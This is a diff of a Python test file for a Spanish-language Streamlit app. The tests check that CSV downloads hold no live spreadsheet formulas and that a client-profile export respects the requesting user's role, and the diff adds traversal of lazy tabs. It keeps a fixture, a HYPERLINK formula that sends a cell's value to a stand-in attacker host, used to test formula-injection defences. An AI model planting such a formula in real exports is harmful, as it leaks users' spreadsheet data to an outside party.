@@ -24,7 +24,7 @@ from streamlit.elements.widgets.button import ButtonMixin
 from datos.cuentas.exportar import PREFIJOS_PELIGROSOS
 from paginas.sesion import PAGINAS
 from tests import RAIZ
-from tests.apptest import abrir, sin_errores
+from tests.apptest import abrir, abrir_pestana, recorrer_pestanas, sin_errores
 
 FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")'
 #: Un número escrito a la española en un CSV (``-3``, ``-1.234,5``): empieza por ``-`` sin ser fórmula.
@@ -125,6 +125,8 @@ def test_ninguna_descarga_lleva_formulas_vivas(hostil, descargas, monkeypatch):
         at = abrir(pagina.archivo)
         sin_errores(at)
         _recorrer(at, PASOS.get(pagina.archivo, []))
+        for _ in recorrer_pestanas(at):  # las descargas de las pestañas perezosas (paginas.pestanas)
+            sin_errores(at)
         vistas[pagina.archivo] = descargas[inicio:]
     nombres = {nombre for registradas in vistas.values() for _, nombre, _ in registradas}
     # Las descargas que el issue 16 encontró sin neutralizar están entre las revisadas.
@@ -230,7 +232,7 @@ def test_los_clientes_de_perfiles_se_descargan_con_el_rol_de_quien_los_pide(base
     for cuenta, ve_identidades in ((Usuario("dire", "Dirección", "dirección"), False),
                                    (Usuario("cali", "Calidad", "calidad"), True)):
         inicio = len(descargas)
-        at = abrir("paginas/perfiles.py", usuario=cuenta)
+        at = abrir_pestana(abrir("paginas/perfiles.py", usuario=cuenta), "Clientes")
         sin_errores(at)
         archivo = next(datos for _, nombre, datos in descargas[inicio:] if nombre == "clientes_perfil.csv")
         filas = list(csv.reader(io.StringIO(_bytes(archivo).decode("utf-8-sig")), delimiter=";"))
